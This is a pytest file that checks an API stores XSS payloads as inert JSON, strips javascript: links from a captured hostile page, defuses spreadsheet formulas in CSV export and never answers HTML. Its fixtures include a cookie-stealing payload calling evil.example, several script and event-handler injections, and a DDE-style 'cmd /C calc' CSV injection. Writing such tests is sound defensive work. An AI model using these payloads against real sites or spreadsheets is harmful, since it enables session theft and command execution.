"""Stored XSS and HTML from the API origin (T20, T21, server side): hostile text stays inert data everywhere.

Script payloads go in through every door (typed fields, a captured page, imports) and come out as JSON
string values, unchanged, in answers that a browser will not render as a page. The browser half of T20 (the
popup, options and desk render them as text) lives in tests/browser/.
"""

from __future__ import annotations

import csv
import io

import pytest

from server.openapi import describe

PAYLOADS = {
    "img": '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "script": "<script>alert(1)</script>",
    "svg": "<svg onload=alert(1)>",
    "attr": '"><iframe srcdoc="<script>parent.alert(1)</script>">',
    "template": "{{constructor.constructor('alert(1)')()}}",
}
HOSTILE_PAGE = f"""<!doctype html><html><head><title>{PAYLOADS['script']} | LinkedIn</title>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta property="og:title" content="{PAYLOADS['svg'].replace('"', '&quot;')}">
<script type="application/ld+json">{{"@type": "Person", "name": "Eve <img src=x onerror=alert(1)> Hacker",
 "jobTitle": "<b onmouseover=alert(2)>CTO</b>", "url": "javascript:alert(3)", "image": "javascript:alert(4)",
 "sameAs": ["javascript:alert(5)"]}}</script></head>
<body><svg onload="alert(6)"></svg><a href="javascript:alert(7)">profile</a>
<h1><img src=x onerror=alert(8)>Eve Hacker</h1></body></html>"""


def sound(resp):
    """An answer a browser will not render as a page and will not sniff into one."""
    assert resp.mimetype != "text/html"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in resp.headers["Content-Security-Policy"]
    return resp


def test_payloads_in_every_typed_field_come_back_unchanged_as_json(client, H):
    p = PAYLOADS
    contact = client.post("/api/v1/contacts", json={
        "name": p["img"], "headline": p["script"], "title": p["svg"], "company": p["attr"], "location": p["template"],
        "notes": p["script"] + p["img"], "tags": [p["svg"][:50]]}, headers=H)
    assert contact.status_code == 201
    cid = contact.get_json()["id"]
    iv = client.post("/api/v1/interviews", json={
        "company": p["attr"], "role": p["script"], "starts_at": "2026-11-20T10:00:00+01:00", "notes": p["img"],
        "topics": [p["svg"]], "concerns": [{"concern": p["script"], "clarification": p["img"]}],
        "interviewers": [{"contact_id": cid, "topics": [p["template"]]}]}, headers=H).get_json()
    client.post("/api/v1/touches", json={"contact_id": cid, "kind": "met", "note": p["svg"]}, headers=H)
    client.put("/api/v1/profile", json={"name": p["img"], "signature": p["script"], "value_proposition": p["svg"]}, headers=H)

    got = sound(client.get(f"/api/v1/contacts/{cid}", headers=H)).get_json()
    assert (got["name"], got["headline"], got["title"], got["company"], got["location"]) == \
        (p["img"], p["script"], p["svg"], p["attr"], p["template"])
    got = sound(client.get(f"/api/v1/interviews/{iv['id']}", headers=H)).get_json()
    assert got["concerns"] == [{"concern": p["script"], "clarification": p["img"]}] and got["topics"] == [p["svg"]]
    assert sound(client.get(f"/api/v1/touches?contact_id={cid}", headers=H)).get_json()["touches"][0]["note"] == p["svg"]
    assert sound(client.get("/api/v1/profile", headers=H)).get_json()["signature"] == p["script"]


@pytest.mark.parametrize("url", ["https://www.linkedin.com/in/eve-hacker/", "https://eve.example/about"])
def test_a_hostile_page_gives_text_and_only_web_links(client, H, url):
    resp = sound(client.post("/api/v1/capture", json={"url": url, "html": HOSTILE_PAGE}, headers=H))
    assert resp.status_code == 200 and resp.mimetype == "application/json"
    candidates = resp.get_json()["candidates"]
    assert candidates and "Eve" in candidates[0]["name"]
    for cand in candidates:
        for field in ("profile_url", "photo_url"):
            assert cand[field] is None or cand[field].startswith(("https://", "http://")), cand
        assert "javascript:" not in str(cand).lower()
        for field in ("name", "headline", "title", "company", "location"):
            assert cand.get(field) is None or isinstance(cand[field], str)


def test_drafts_carry_the_payload_as_plain_text_and_only_safe_links(client, H):
    cid = client.post("/api/v1/contacts", json={"name": "Ana <script>alert(1)</script> Lima",
                                                "email": "ana@acme.example"}, headers=H).get_json()["id"]
    iv = client.post("/api/v1/interviews", json={
        "company": "Acme", "role": "<img src=x onerror=alert(1)>", "starts_at": "2026-11-20T10:00:00+01:00",
        "interviewers": [{"contact_id": cid, "topics": ['<svg onload="alert(1)">']}]}, headers=H).get_json()["id"]
    resp = sound(client.get(f"/api/v1/drafts?contact_id={cid}&interview_id={iv}", headers=H))
    assert resp.status_code == 200 and resp.mimetype == "application/json"
    drafts = resp.get_json()["drafts"]
    assert drafts
    for d in drafts:
        for link in ("mailto", "gmail"):
            if d.get(link):
                assert d[link].startswith(("mailto:", "https://mail.google.com/")), d[link]


def test_spreadsheet_export_defuses_formulas(client, H):
    client.post("/api/v1/contacts", json={"name": "=HYPERLINK(\"https://evil.example\",\"click\")",
                                          "notes": "+cmd|' /C calc'!A0", "company": "@SUM(1+1)"}, headers=H)
    resp = sound(client.get("/api/v1/export/contacts.csv", headers=H))
    assert resp.headers["Content-Disposition"].startswith("attachment")
    for row in csv.reader(io.StringIO(resp.get_data(as_text=True))):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), row


@pytest.mark.parametrize("query", ["", "?format=html", "?format=html&download=0", "?callback=alert"])
def test_no_route_answers_html(client, H, query):
    """T21: whatever is asked, the API origin never serves a page (an XSS there would own the whole API)."""
    cid = client.post("/api/v1/contacts", json={"name": PAYLOADS["script"]}, headers=H).get_json()["id"]
    iv = client.post("/api/v1/interviews", json={"company": "Acme", "starts_at": "2026-11-20T10:00:00+01:00",
                                                 "interviewers": [{"contact_id": cid}]}, headers=H).get_json()["id"]
    ids = {"ident": cid, "rid": "x"}
    for path, methods in describe()["paths"].items():
        if "get" not in methods:
            continue
        url = "/api/v1" + path.format(**ids) + query
        if path.startswith("/interviews/"):
            url = url.replace(cid, iv)
        resp = client.get(url, headers=H)
        assert resp.status_code < 500, url
        sound(resp)
        if resp.mimetype not in ("application/json",):
            assert resp.headers.get("Content-Disposition", "").startswith("attachment"), (url, resp.mimetype)
